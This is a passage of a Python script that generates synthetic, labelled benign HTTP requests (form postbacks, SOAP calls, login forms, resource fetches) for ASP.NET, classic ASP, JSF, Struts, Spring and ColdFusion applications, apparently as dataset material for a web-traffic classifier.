    ("/Timesheets/Week.aspx", "ctl00$cphMain", "gvEntries",
     ["ProjectCode", "Hours", "Day"]),
    ("/Inventory/StockLevels.aspx", "ctl00$cphBody", "gvStock",
     ["ItemNo", "Description", "QtyOnHand", "Bin"]),
    ("/Helpdesk/Tickets.aspx", "ctl00$MainContent", "gvTickets",
     ["TicketId", "Priority", "Opened", "AssignedTo"]),
    ("/Finance/Invoices/Default.aspx", "ctl00$ContentPlaceHolder1", "grdInvoices",
     ["InvoiceNo", "Vendor", "DueDate", "Amount"]),
    ("/Fleet/Vehicles.aspx", "ctl00$MainContent", "GridView2",
     ["Registration", "Make", "Mileage"]),
]


def wf_common(r, size_kb=None, encrypted=None, gen=True, ev=True, split=False):
    kb = size_kb or r.choice([2, 3, 5, 8, 12, 18, 26, 40])
    kind = "encrypted" if (encrypted if encrypted is not None else r.random() < 0.3) else "plain"
    out = []
    if split:
        whole = viewstate(r, kb * 1024, kind)
        chunk = 1000 * r.choice([1, 2, 4])
        pieces = [whole[i:i + chunk] for i in range(0, len(whole), chunk)]
        out.append(("__VIEWSTATEFIELDCOUNT", str(len(pieces))))
        out.append(("__VIEWSTATE", pieces[0]))
        for i, p in enumerate(pieces[1:], 1):
            out.append(("__VIEWSTATE%d" % i, p))
    else:
        out.append(("__VIEWSTATE", viewstate(r, kb * 1024, kind)))
    if gen:
        out.append(("__VIEWSTATEGENERATOR", vsgen(r)))
    if kind == "encrypted":
        out.append(("__VIEWSTATEENCRYPTED", ""))
    if ev:
        out.append(("__EVENTVALIDATION", eventvalidation(r, new=r.random() < 0.7)))
    return out


def gen_benign_webforms(n=35):
    r = rng_for("webforms_postback")
    for i in range(n):
        page, cph, grid, cols = r.choice(WF_PAGES)
        host = r.choice(INTRA_HOSTS)
        gridname = cph + "$" + grid
        kind = i % 12
        fields = []
        target, arg = "", ""
        if kind == 0:
            target, arg = gridname, "Page$%d" % r.randint(2, 14)
        elif kind == 1:
            target, arg = gridname, r.choice(["Page$Next", "Page$Prev", "Page$Last", "Page$First"])
        elif kind == 2:
            target, arg = gridname, "Sort$" + r.choice(cols)
        elif kind == 3:
            target, arg = gridname, r.choice(["Select$", "Edit$", "Delete$", "Cancel$"]) + str(r.randint(0, 9))
        elif kind == 4:
            target, arg = gridname, "Update$%d" % r.randint(0, 9)
            fields += [(gridname + "$ctl%02d$txtHours" % r.randint(2, 11), str(r.choice([7.5, 8, 4, 0.5]))),
                       (gridname + "$ctl%02d$ddlProject" % r.randint(2, 11), "PRJ-%04d" % r.randint(1, 9999))]
        elif kind == 5:
            target = cph + "$TreeView1"
            arg = r.choice(["s", "t"]) + r.choice(["Root\\Finance\\Budgets 2019",
                                                    "Root\\HR\\Policies\\Leave",
                                                    "Company\\Sites\\Berlin\\Building A",
                                                    "Reports\\Monthly\\AP Aging"])
            fields.append((cph + "_TreeView1_ExpandState", "".join(r.choice("enc") for _ in range(r.randint(8, 30)))))
            fields.append((cph + "_TreeView1_SelectedNode", "ctl00_MainContent_TreeView1t%d" % r.randint(0, 30)))
            fields.append((cph + "_TreeView1_PopulateLog", ""))
        elif kind == 6:
            target = cph + "$Calendar1"
            arg = r.choice(["V", ""]) + str(r.randint(6900, 7400))
        elif kind == 7:
            target = cph + "$ddl" + r.choice(["Department", "Status", "Region", "Year"])
            fields.append((target, r.choice(["12", "EMEA", "2019", "OPEN", "All"])))
        elif kind == 8:
            target = cph + "$" + r.choice(["lnkExportExcel", "lbtnNextWeek", "lnkClearFilters"])
        else:
            fields.append((cph + "$btn" + r.choice(["Search", "Save", "Submit", "Apply"]),
                           r.choice(["Search", "Save", "Submit", "Apply filter"])))
        base = [("__EVENTTARGET", target), ("__EVENTARGUMENT", arg)]
        if r.random() < 0.5:
            base.append(("__LASTFOCUS", ""))
        state = wf_common(r, split=(i % 9 == 4))
        extra = [
            (cph + "$txtSearch", r.choice(ASCII_PEOPLE + ["", "invoice 2019", "Q3 report", "R&D"])),
            (cph + "$txtFromDate", r.choice(DATES)),
            (cph + "$ddlStatus", r.choice(["All", "Open", "Closed", "0", "-1"])),
        ]
        if r.random() < 0.5:
            extra.append((cph + "$chkActiveOnly", "on"))
        if r.random() < 0.4:
            extra.append((cph + "$txtNotes", r.choice(NOTES)))
        if r.random() < 0.3:
            extra.append(("__SCROLLPOSITIONX", "0"))
            extra.append(("__SCROLLPOSITIONY", str(r.randint(0, 1800))))
        if r.random() < 0.3:
            extra.append(("ctl00$hfUserTimezoneOffset", str(r.choice([-60, -120, 0, 300, 480]))))
        body = form(base + state + extra + fields)
        cookie = aspnet_session(r) + ("; " + aspxauth(r) if r.random() < 0.6 else "")
        url = "https://%s%s" % (host, page)
        hs = browser(r, host, referer=url, cookie=cookie,
                     ctype="application/x-www-form-urlencoded",
                     extra=[["Cache-Control", "no-cache"]] if r.random() < 0.4 else [])
        add("benign", "webforms_postback", "POST", page, hs, body)


ACT_HIDDEN = ("ctl00_ToolkitScriptManager1_HiddenField",
              ";;AjaxControlToolkit, Version=3.5.40412.0, Culture=neutral, "
              "PublicKeyToken=28f01b0e84b6d53e:en-US:1547e793-5b7e-48fe-8490-03a375b13a33:"
              "475a4ef5:effe2a26:3ac3e789:5546a2b:d2e10b12:37e2e5c9:5a682656:12bbc599")


def gen_benign_async(n=25):
    r = rng_for("webforms_async")
    for i in range(n):
        page, cph, grid, cols = r.choice(WF_PAGES)
        host = r.choice(INTRA_HOSTS)
        up = cph + "$" + r.choice(["UpdatePanel1", "upGrid", "upDetails", "updFilters"])
        mode = i % 5
        if mode == 0:
            trig, target, arg = cph + "$" + grid, cph + "$" + grid, "Page$%d" % r.randint(2, 30)
        elif mode == 1:
            trig, target, arg = cph + "$" + grid, cph + "$" + grid, "Sort$" + r.choice(cols)
        elif mode == 2:
            trig = cph + "$ddlRegion"
            target, arg = trig, ""
        elif mode == 3:
            trig = cph + "$Timer1"
            target, arg = trig, ""
        else:
            trig = cph + "$btnRefresh"
            target, arg = "", ""
        sm = r.choice(["ctl00$ScriptManager1", "ctl00$ToolkitScriptManager1", "ScriptManager1"])
        pairs = [(sm, up + "|" + trig)]
        if "Toolkit" in sm:
            pairs.append(ACT_HIDDEN)
        pairs += [("__EVENTTARGET", target), ("__EVENTARGUMENT", arg)]
        pairs += wf_common(r, size_kb=r.choice([3, 6, 10, 22]))
        pairs += [(cph + "$ddlRegion", r.choice(["EMEA", "APAC", "AMER"])),
                  (cph + "$txtFilter", r.choice(ASCII_PEOPLE + ["", "laptop", "PO-2019-0042"]))]
        if mode == 4:
            pairs.append((trig, "Refresh"))
        pairs.append(("__ASYNCPOST", "true"))
        body = form(pairs) + "&"
        hs = browser(r, host, accept="*/*", referer="https://%s%s" % (host, page),
                     cookie=aspnet_session(r) + "; " + aspxauth(r),
                     ctype="application/x-www-form-urlencoded; charset=utf-8", xhr=True,
                     extra=[["X-MicrosoftAjax", "Delta=true"], ["Cache-Control", "no-cache"]])
        add("benign", "webforms_async", "POST", page, hs, body)


def gen_benign_axd(n=16):
    r = rng_for("axd")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        k = i % 8
        if k == 0:
            uri = "/WebResource.axd?d=%s&t=%d" % (b64url_token(rbytes(r, r.choice([52, 64, 76, 88]))),
                                                   r.randint(634000000000000000, 637999999999999999))
            acc = "*/*"
        elif k == 1:
            uri = "/ScriptResource.axd?d=%s&t=%s" % (b64url_token(rbytes(r, r.choice([120, 150, 186]))),
                                                      rhex(r, 16))
            acc = "application/javascript, */*;q=0.8"
        elif k == 2:
            comb = (";;System.Web.Extensions, Version=4.0.0.0, Culture=neutral, "
                    "PublicKeyToken=31bf3856ad364e35:en-US:%s:ea597d4b:b25378d2;"
                    "Telerik.Web.UI, Version=2013.2.717.40, Culture=neutral, "
                    "PublicKeyToken=121fae78165ba3d4:en-US:%s:16e4e7cd:f7645509:22a6274a:"
                    "ed16cbdc:24ee1bba:92fe8ea0:fa31b949:874f8ea2:19620875:490a9d4e:bd8f85e4"
                    % (guid(r), guid(r)))
            uri = "/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=ctl00_RadScriptManager1_TSM&compress=1&_TSM_CombinedScripts_=" + quote(comb, safe="")
            acc = "application/javascript, */*;q=0.8"
        elif k == 3:
            uri = "/ChartImg.axd?i=charts_0/chart_0_%d.png&g=%s" % (r.randint(0, 40), rhex(r, 32))
            acc = "image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5"
        elif k == 4:
            uri = ("/Reserved.ReportViewerWebControl.axd?OpType=Resource&Version=11.0.3442.2&Name="
                   + r.choice(["Microsoft.Reporting.WebForms.Icons.Refresh.gif",
                               "Microsoft.Reporting.WebForms.Scripts.ReportViewer.js",
                               "Microsoft.Reporting.WebForms.Icons.Export.gif"]))
            acc = "*/*"
        elif k == 5:
            uri = ("/Reserved.ReportViewerWebControl.axd?ReportSession=%s&Culture=1033&CultureOverrides=True&UICulture=1033&UICultureOverrides=True&ReportStack=1&ControlID=%s&OpType=Export&FileName=AP+Aging+%s&ContentDisposition=OnlyHtmlInline&Format=EXCELOPENXML"
                   % (ralnum(r, 24, "abcdefghijklmnopqrstuvwxyz012345"), rhex(r, 32), r.choice(["2019", "Q3", "March"])))
            acc = ACCEPT_IE
        elif k == 6:
            uri = "/WebResource.axd?d=%s&t=%d" % (b64url_token(rbytes(r, 40)), r.randint(635000000000000000, 636999999999999999))
            acc = "image/png, image/svg+xml, image/*;q=0.8, */*;q=0.5"
        else:
            uri = "/ScriptResource.axd?d=%s" % b64url_token(rbytes(r, 210))
            acc = "application/javascript, */*;q=0.8"
        hs = browser(r, host, accept=acc, referer="https://%s/Default.aspx" % host,
                     cookie=aspnet_session(r))
        add("benign", "axd_resource", "GET", uri, hs)
    # RadAsyncUpload: a real upload, rauPostData is an encrypted config blob
    for i in range(2):
        host = r.choice(INTRA_HOSTS)
        bd = webkit_boundary(r)
        rau = b64(rbytes(r, 480)) + "&" + b64(rbytes(r, 96))
        pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + rbytes(r, 600) + b"\n%%EOF\n"
        body = multipart([("rauPostData", rau, None, None),
                          ("file", pdf, "Expense_receipts_%d.pdf" % r.randint(1, 99), "application/pdf"),
                          ("fileName", "Expense_receipts.pdf", None, None),
                          ("contentType", "application/pdf", None, None),
                          ("lastModifiedDate", "2019-03-1%dT09:21:44.000Z" % i, None, None),
                          ("metadata", '{"TotalChunks":1,"ChunkIndex":0,"TotalFileSize":%d,"UploadID":"%d%s.pdf"}'
                           % (len(pdf), r.randint(1550000000000, 1559999999999), rhex(r, 4)), None, None)], bd)
        hs = browser(r, host, accept="*/*", referer="https://%s/Expenses/Claim.aspx" % host,
                     cookie=aspnet_session(r) + "; " + aspxauth(r),
                     ctype="multipart/form-data; boundary=" + bd, xhr=True)
        add_raw("benign", "axd_resource", "POST", "/Telerik.Web.UI.WebResource.axd?type=rau", hs, body)


SOAP11 = ('<?xml version="1.0" encoding="utf-8"?>\n'
          '<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
          'xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
          'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n'
          '  <soap:Body>\n%s\n  </soap:Body>\n</soap:Envelope>')
SOAP12 = ('<?xml version="1.0" encoding="utf-8"?>\n'
          '<soap12:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
          'xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
          'xmlns:soap12="http://www.w3.org/2003/05/soap-envelope">\n'
          '  <soap12:Body>\n%s\n  </soap12:Body>\n</soap12:Envelope>')


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


ASMX_OPS = [
    ("/Services/EmployeeService.asmx", "GetEmployee", [("employeeId", "{n}")]),
    ("/Services/EmployeeService.asmx", "SearchEmployees", [("lastName", "{p}"), ("department", "{d}"), ("maxRows", "50")]),
    ("/WebServices/OrderService.asmx", "GetOrderStatus", [("orderNumber", "SO-{n}")]),
    ("/WebServices/OrderService.asmx", "UpdateShippingAddress",
     [("orderNumber", "SO-{n}"), ("street", "14 Church St., Apt #3"), ("city", "Cork"), ("postCode", "T12 X70A")]),
    ("/ws/Timesheet.asmx", "SubmitWeek", [("userName", "CORP\\jsmith"), ("weekEnding", "2019-03-15"), ("comment", "{note}")]),
    ("/_vti_bin/UserGroup.asmx", "GetUserInfo", [("userLoginName", "i:0#.w|corp\\aobrien")]),
]


def gen_benign_asmx(n=22):
    r = rng_for("asmx")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        path, op, params = r.choice(ASMX_OPS)
        vals = []
        for k, v in params:
            v = v.replace("{n}", str(r.randint(1000, 99999))).replace("{p}", r.choice(PEOPLE)) \
                .replace("{d}", r.choice(DEPTS)).replace("{note}", r.choice(NOTES))
            vals.append((k, v))
        ns = "http://schemas.microsoft.com/sharepoint/soap/directory/" if "_vti_bin" in path else "http://tempuri.org/"
        mode = i % 6
        if mode in (0, 1, 2):
            inner = '    <%s xmlns="%s">\n%s\n    </%s>' % (
                op, ns, "\n".join("      <%s>%s</%s>" % (k, xesc(v), k) for k, v in vals), op)
            if mode == 2:
                body = SOAP12 % inner
                ct = 'application/soap+xml; charset=utf-8; action="%s%s"' % (ns, op)
                hs = [["Host", host], ["User-Agent", DOTNET_SOAP_UA], ["Content-Type", ct]]
            else:
                body = SOAP11 % inner
                hs = [["Host", host], ["User-Agent", r.choice(SOAP_CLIENTS)],
                      ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"%s%s"' % (ns, op)]]
            if r.random() < 0.5:
                hs.append(["Authorization", "NTLM " + ntlm_type3(r, "CORP", r.choice(["svc_hr", "jsmith", "SVC-BIZTALK"]), "APPSRV0%d" % r.randint(1, 9))])
            hs.append(["Expect", "100-continue"] if r.random() < 0.3 else ["Connection", "Keep-Alive"])
            add("benign", "asmx", "POST", path, hs, body)
        elif mode == 3:
            # ASMX JSON (ScriptService) / AutoCompleteExtender
            body = json.dumps({"prefixText": r.choice(ASCII_PEOPLE)[:r.randint(2, 5)], "count": 10,
                               "contextKey": "dept=%d" % r.randint(1, 40)})
            hs = browser(r, host, accept="application/json, text/javascript, */*; q=0.01",
                         ctype="application/json; charset=utf-8", xhr=True,
                         referer="https://%s/HR/EmployeeList.aspx" % host, cookie=aspnet_session(r))
            add("benign", "asmx", "POST", "/Services/AutoComplete.asmx/GetCompletionList", hs, body)
        elif mode == 4:
            # PageMethods
            body = json.dumps({"orderId": r.randint(10000, 11000),
                               "lines": [{"sku": "AB-%04d" % r.randint(1, 9999), "qty": r.randint(1, 12)}],
                               "note": r.choice(NOTES)})
            hs = browser(r, host, accept="application/json, text/javascript, */*; q=0.01",
                         ctype="application/json; charset=utf-8", xhr=True,
                         referer="https://%s/Orders/Edit.aspx?id=%d" % (host, r.randint(1, 999)),
                         cookie=aspnet_session(r) + "; " + aspxauth(r))
            add("benign", "asmx", "POST", "/Orders/Edit.aspx/SaveOrderLines", hs, body)
        else:
            uri = [path + "?WSDL", "/Services/Payroll.svc?singleWsdl", path + "?op=" + op, path + "?disco",
                   "/Services/Payroll.svc?wsdl=wsdl0",
                   "/Services/Payroll.svc/rest/payslips?employeeId=%d&year=2019" % r.randint(1000, 9999)][(i // 6) % 6]
            hs = [["Host", host], ["User-Agent", r.choice(SOAP_CLIENTS + IE11)], ["Accept", "*/*"]]
            add("benign", "asmx", "GET", uri, hs)


# ---------------------------------------------------------------------------
# BENIGN: classic ASP
# ---------------------------------------------------------------------------

def gen_benign_classic_asp(n=25):
    r = rng_for("classic_asp")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        cookie = asp_session(r) + ("; " + asp_session(r) if r.random() < 0.3 else "")
        k = i % 10
        if k == 0:
            uri = "/news/article.asp?id=%d&cat=%d" % (r.randint(100, 9000), r.randint(1, 20))
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 1:
            uri = "/catalog/product.asp?sku=%s-%04d&qty=%d&ref=home" % (r.choice(["AB", "XK", "T"]), r.randint(1, 9999), r.randint(1, 5))
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 2:
            q = r.choice(ASCII_PEOPLE + ["annual leave form", "canteen menu", "car park", "R&D budget"])
            uri = "/search.asp?" + form([("q", q), ("x", str(r.randint(0, 30))), ("y", str(r.randint(0, 20)))])
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 3:
            body = form([("txtUser", r.choice(["jsmith", "a.obrien", "mmueller", "CORP\\kpatel"])),
                         ("txtPass", r.choice(["Winter2019!", "P@ssw0rd#12", "correct horse battery"])),
                         ("chkRemember", "1"), ("returnUrl", "/intranet/default.asp?sec=%d" % r.randint(1, 99)), ("Submit", "Log In")])
            add("benign", "classic_asp", "POST", "/login.asp",
                browser(r, host, cookie=cookie, referer="http://%s/login.asp" % host,
                        ctype="application/x-www-form-urlencoded"), body)
        elif k == 4:
            uri = "/admin/report.asp?" + form([("from", r.choice(DATES)), ("to", r.choice(DATES)),
                                                ("dept", r.choice(DEPTS)), ("fmt", r.choice(["xls", "html", "csv"]))])
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 5:
            # legacy AJAX with escape(): %XX latin-1, %uXXXX beyond
            txt = r.choice(["Réunion budget – 50 € par personne", "Zoë's leaving card ♥",
                            "Straße 12, 8. Stock", "Prix: 1 200 € HT", "Müller & Söhne GmbH",
                            "Naïve café order for 12:30"])
            body = "action=save&id=%d&comment=%s" % (r.randint(1, 5000), js_escape(txt))
            add("benign", "classic_asp", "POST", "/intranet/ajax/saveComment.asp",
                browser(r, host, cookie=cookie, accept="*/*", xhr=True,
                        ctype="application/x-www-form-urlencoded"), body)
        elif k == 6:
            uri = "/phonebook/default.asp?letter=%s&page=%d&sort=%s" % (r.choice("ABCDEFGHKMOPSW"), r.randint(1, 9), r.choice(["name", "ext", "dept"]))
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 7:
            body = form1252([("nom", r.choice(["Lefèvre", "Bézier", "Gaëlle Côté", "Ångström"])),
                             ("service", r.choice(["Comptabilité", "Ressources humaines", "Qualité"])),
                             ("motif", r.choice(["Congé payé", "Formation « Excel »", "Récupération"])),
                             ("du", r.choice(DATES)), ("au", r.choice(DATES)), ("envoyer", "Envoyer")])
            add("benign", "classic_asp", "POST", "/rh/conges/demande.asp",
                browser(r, host, cookie=cookie, ctype="application/x-www-form-urlencoded",
                        referer="http://%s/rh/conges/demande.asp" % host), body)
        elif k == 8:
            uri = "/forum/topic.asp?TOPIC_ID=%d&FORUM_ID=%d&whichpage=%d&ARCHIVE=" % (r.randint(10, 9000), r.randint(1, 30), r.randint(1, 6))
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))
        else:
            uri = "/kb/download.asp?doc=%s&v=%d" % (quote(r.choice(["Expense Policy 2019.pdf", "VPN setup (Win10).docx", "Org chart - Q3.pptx"])), r.randint(1, 9))
            add("benign", "classic_asp", "GET", uri, browser(r, host, cookie=cookie))


# ---------------------------------------------------------------------------
# BENIGN: JSF / PrimeFaces / RichFaces
# ---------------------------------------------------------------------------

def jsf_state(r):
    if r.random() < 0.6:
        return "%d:%d" % (r.randint(-9 * 10 ** 18, 9 * 10 ** 18), r.randint(-9 * 10 ** 18, 9 * 10 ** 18))
    return b64(rbytes(r, r.choice([96, 240, 512, 1200])))  # encrypted client state (MyFaces)


def gen_benign_jsf(n=25):
    r = rng_for("jsf")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        app = r.choice(["/hrportal", "/procurement", "/claims", "/portal"])
        js = jsessionid(r, websphere=r.random() < 0.4)
        k = i % 6
        if k in (0, 1):
            tbl = "form:%s" % r.choice(["dataTable", "ordersTable", "empTbl"])
            pairs = [("javax.faces.partial.ajax", "true"), ("javax.faces.source", tbl),
                     ("javax.faces.partial.execute", tbl), ("javax.faces.partial.render", tbl),
                     (tbl, tbl)]
            if k == 0:
                pairs += [(tbl + "_pagination", "true"), (tbl + "_first", str(r.choice([10, 20, 50, 100]))),
                          (tbl + "_rows", "10"), (tbl + "_skipChildren", "true"), (tbl + "_encodeFeature", "true")]
            else:
                pairs += [(tbl + "_sorting", "true"), (tbl + "_skipChildren", "true"),
                          (tbl + "_sortKey", tbl + ":j_idt%d" % r.randint(20, 90)), (tbl + "_sortDir", r.choice(["1", "-1"]))]
            pairs += [("form", "form"), ("form:j_idt%d" % r.randint(10, 40), r.choice(ASCII_PEOPLE)),
                      (tbl + "_selection", ""), ("javax.faces.ViewState", jsf_state(r))]
            body = form(pairs)
            hs = browser(r, host, accept="application/xml, text/xml, */*; q=0.01", xhr=True,
                         ctype="application/x-www-form-urlencoded; charset=UTF-8",
                         extra=[["Faces-Request", "partial/ajax"]], cookie="JSESSIONID=" + js,
                         referer="https://%s%s/pages/list.xhtml" % (host, app))
            add("benign", "jsf", "POST", app + "/pages/list.xhtml", hs, body)
        elif k == 2:
            fid = "j_idt%d" % r.randint(5, 30)
            pairs = [(fid, fid), (fid + ":username", r.choice(["jsmith", "mmueller", "kpatel"])),
                     (fid + ":password", r.choice(["Summer#2019", "Tr0ub4dor&3"])),
                     (fid + ":j_idt%d" % r.randint(30, 60), "Login"), ("javax.faces.ViewState", jsf_state(r))]
            hs = browser(r, host, ctype="application/x-www-form-urlencoded",
                         referer="https://%s%s/login.jsf" % (host, app))
            add("benign", "jsf", "POST", "%s/login.jsf;jsessionid=%s" % (app, js), hs, form(pairs))
        elif k == 3:
            uri = ["%s/javax.faces.resource/jsf.js.xhtml?ln=javax.faces&stage=Development",
                   "%s/javax.faces.resource/primefaces.js.xhtml?ln=primefaces&v=6.2",
                   "%s/javax.faces.resource/theme.css.xhtml?ln=primefaces-omega",
                   "%s/faces/javax.faces.resource/components.js?ln=primefaces&v=5.3",
                   "%s/a4j/g/3_3_3.Finalorg/richfaces/renderkit/html/scripts/framework.pack.js"][(i // 6) % 5] % app
            add("benign", "jsf", "GET", uri, browser(r, host, accept="*/*", cookie="JSESSIONID=" + js))
        elif k == 4:
            # RichFaces 3 A4J
            pairs = [("AJAXREQUEST", "_viewRoot"), ("searchForm", "searchForm"),
                     ("searchForm:lastName", r.choice(ASCII_PEOPLE)), ("searchForm:dept", r.choice(DEPTS)),
                     ("javax.faces.ViewState", "j_id%d" % r.randint(1, 60)),
                     ("searchForm:j_id%d" % r.randint(10, 99), "searchForm:j_id%d" % r.randint(10, 99)),
                     ("AJAX:EVENTS_COUNT", "1")]
            hs = browser(r, host, accept="*/*", ctype="application/x-www-form-urlencoded; charset=UTF-8",
                         cookie="JSESSIONID=" + js)
            add("benign", "jsf", "POST", app + "/search.seam?cid=%d" % r.randint(1, 400), hs, form(pairs))
        else:
            uri = "%s/pages/employee/detail.jsf;jsessionid=%s?id=%d&cid=%d" % (app, js, r.randint(1, 9999), r.randint(1, 90))
            add("benign", "jsf", "GET", uri, browser(r, host))


# ---------------------------------------------------------------------------
# BENIGN: Struts 1/2 and Spring MVC
# ---------------------------------------------------------------------------

def gen_benign_struts(n=20):
    r = rng_for("struts")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        js = jsessionid(r)
        k = i % 5
        if k == 0:
            pairs = [("employee.firstName", r.choice(["Anne", "Seán", "Kai"])),
                     ("employee.lastName", r.choice(ASCII_PEOPLE)),
                     ("employee.address.street", "Hauptstr. 1%d" % r.randint(0, 9)),
                     ("employee.address.city", r.choice(["Zürich", "Cork", "Lyon", "St. Gallen"])),
                     ("employee.address.country.code", r.choice(["CH", "IE", "FR"])),
                     ("employee.dependents[0].name", r.choice(["Mia", "Liam", "Noah"])),
                     ("employee.dependents[0].birthDate", r.choice(DATES)),
                     ("struts.token.name", "token"), ("token", ralnum(r, 32)),
                     ("__checkbox_employee.active", "true"), ("employee.active", "true")]
            add("benign", "struts", "POST", "/hr/employee/save.action",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie="JSESSIONID=" + js,
                        referer="https://%s/hr/employee/edit.action?id=%d" % (host, r.randint(1, 999))),
                form(pairs))
        elif k == 1:
            tbl = r.randint(10000, 99999)
            uri = "/orders/search.do?method=list&d-%d-p=%d&d-%d-s=%d&d-%d-o=%d&status=OPEN" % (
                tbl, r.randint(2, 20), tbl, r.randint(0, 5), tbl, r.randint(1, 2))
            add("benign", "struts", "GET", uri, browser(r, host, cookie="JSESSIONID=" + js))
        elif k == 2:
            pairs = [("org.apache.struts.taglib.html.TOKEN", rhex(r, 32)),
                     ("method", r.choice(["save", "submit", "approve"])),
                     ("claim.amount", "%d.%02d" % (r.randint(5, 900), r.randint(0, 99))),
                     ("claim.currency", r.choice(["EUR", "GBP", "CHF"])),
                     ("claim.description", r.choice(NOTES)),
                     ("claim.items[0].category", r.choice(["TRAVEL", "MEALS", "HOTEL"])),
                     ("claim.items[1].category", "PARKING")]
            add("benign", "struts", "POST", "/expenses/claim.do",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie="JSESSIONID=" + js),
                form(pairs))
        elif k == 3:
            uri = "/hr/employee/list.action?" + form([("filter.lastName", r.choice(ASCII_PEOPLE)),
                                                       ("filter.department", r.choice(DEPTS)),
                                                       ("page", str(r.randint(1, 9))), ("sortField", "hireDate")])
            add("benign", "struts", "GET", uri, browser(r, host, cookie="JSESSIONID=" + js))
        else:
            uri = "/portal/viewDocument.do;jsessionid=%s?docId=%d&version=%d" % (js, r.randint(1, 99999), r.randint(1, 5))
            add("benign", "struts", "GET", uri, browser(r, host))


def gen_benign_spring(n=15):
    r = rng_for("spring_mvc")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        k = i % 5
        cookie = "JSESSIONID=" + jsessionid(r)
        if k == 0:
            uri = "/catalog/cars;color=%s;year=%d;make=%s" % (r.choice(["red", "silver", "black"]), r.randint(2008, 2019), r.choice(["Saab", "Volvo", "Skoda"]))
            add("benign", "spring_mvc", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 1:
            uri = "/owners/%d;fields=name,pets/pets/%d;q=%d/visits" % (r.randint(1, 400), r.randint(1, 40), r.randint(1, 20))
            add("benign", "spring_mvc", "GET", uri, browser(r, host, accept="application/json", cookie=cookie))
        elif k == 2:
            uri = "/reports/sales;region=%s;quarter=Q%d?format=pdf" % (r.choice(["EMEA", "APAC"]), r.randint(1, 4))
            add("benign", "spring_mvc", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 3:
            body = form([("_eventId_proceed", "Next"), ("checkinDate", r.choice(DATES)),
                         ("checkoutDate", r.choice(DATES)), ("beds", str(r.randint(1, 3))),
                         ("_smoking", "on"), ("amenities", "OCEAN_VIEW"), ("_amenities", "on"),
                         ("_csrf", guid(r))])
            add("benign", "spring_mvc", "POST", "/travel/booking?execution=e%ds%d" % (r.randint(1, 9), r.randint(1, 4)),
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), body)
        else:
            body = form([("j_username", r.choice(["jsmith", "kpatel"])), ("j_password", "S3cure!pass"),
                         ("_spring_security_remember_me", "on"), ("_csrf", guid(r))])
            add("benign", "spring_mvc", "POST", "/app/j_spring_security_check",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), body)


# ---------------------------------------------------------------------------
# BENIGN: ColdFusion
# ---------------------------------------------------------------------------

def gen_benign_coldfusion(n=20):
    r = rng_for("coldfusion")
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        cookie = cf_cookies(r) + ("; JSESSIONID=" + jsessionid(r) if r.random() < 0.5 else "")
        k = i % 7
        if k == 0:
            uri = "/index.cfm?fuseaction=%s&%s=%d" % (r.choice(["employee.detail", "news.view", "orders.edit"]),
                                                      r.choice(["empID", "newsID", "orderID"]), r.randint(1, 9999))
            add("benign", "coldfusion", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 1:
            cid = rhex(r, 32, upper=True)
            uri = ("/api/Orders.cfc?method=getOrders&returnformat=json&queryformat=column&status=%s"
                   "&_cf_nodebug=true&_cf_nocache=true&_cf_clientid=%s&_cf_rc=%d") % (r.choice(["open", "shipped"]), cid, r.randint(0, 9))
            add("benign", "coldfusion", "GET", uri, browser(r, host, accept="*/*", xhr=True, cookie=cookie))
        elif k == 2:
            body = "method=saveOrder&returnFormat=json&argumentCollection=" + qp(json.dumps(
                {"orderId": str(r.randint(10000, 20000)), "includeLines": True,
                 "shipTo": {"name": r.choice(ASCII_PEOPLE), "city": "Dublin"}}))
            add("benign", "coldfusion", "POST", "/components/OrderService.cfc",
                browser(r, host, accept="*/*", xhr=True, ctype="application/x-www-form-urlencoded", cookie=cookie), body)
        elif k == 3:
            uri = "/admin/grid.cfc?method=getEmployees&returnFormat=json&argumentCollection=" + quote(json.dumps(
                {"page": r.randint(1, 9), "pageSize": 20, "gridsortcolumn": "LASTNAME", "gridsortdir": "ASC"}), safe="")
            add("benign", "coldfusion", "GET", uri, browser(r, host, accept="*/*", xhr=True, cookie=cookie))
        elif k == 4:
            uri = "/directory/search.cfm?CFID=%d&CFTOKEN=%d&lastname=%s&startrow=%d" % (r.randint(1000, 999999), r.randint(10000000, 99999999), quote(r.choice(ASCII_PEOPLE)), r.choice([1, 21, 41]))
            add("benign", "coldfusion", "GET", uri, browser(r, host))
        elif k == 5:
            body = form([("title", r.choice(["Canteen closed Friday", "New parking rules", "Q3 results"])),
                         ("body", r.choice(NOTES) + "\r\n\r\n" + r.choice(NOTES)),
                         ("publishDate", r.choice(DATES)), ("category", r.choice(DEPTS)),
                         ("fieldnames", "TITLE,BODY,PUBLISHDATE,CATEGORY"), ("submit", "Publish")])
